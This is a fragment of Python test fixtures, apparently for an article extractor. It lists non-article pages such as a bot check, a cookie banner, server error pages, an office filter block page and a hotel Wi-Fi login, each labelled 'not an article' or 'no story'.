    Kind("a check for robots, in Portuguese", "a.html", lambda s: wall("Verificação de segurança", "Confirme que você não é um robô para continuar.", "Estamos verificando o seu navegador antes de acessar l.example."), 0, ("not an article",)),
    Kind("a question about cookies, in Swedish", "a.html", lambda s: wall("Vi använder cookies", "Vi och våra partner använder cookies för att lagra och läsa information på din enhet.", "Godkänn alla", "Avvisa alla", "Inställningar"), 0, ("not an article",)),
    Kind("a page that Tomcat does not find", "a.html", lambda s: TOMCAT, 0, ("not an article",)),
    Kind("an error of a program of ASP.NET", "a.html", lambda s: ASPNET, 0, ("not an article",)),
    Kind("a site without its database", "a.html", lambda s: DATABASE, 0, ("no story",)),
    Kind("a page that the filter of an office blocked", "a.html", lambda s: wall("Web Page Blocked", "The page you have requested has been blocked, because the URL is banned.", "URL: https://ledger.example/rain", "Category: News and Media", "Client IP: 192.0.2.7"), 0, ("not an article",)),
    Kind("a page to log in to the network of a hotel", "a.html", lambda s: wall("Guest Wi-Fi Login", "Enter your room number and last name to connect.", "Room number", "Last name", "Connect"), 0, ("no story",)),
]  # fmt: skip

KINDS = [*ODD, *BAD]
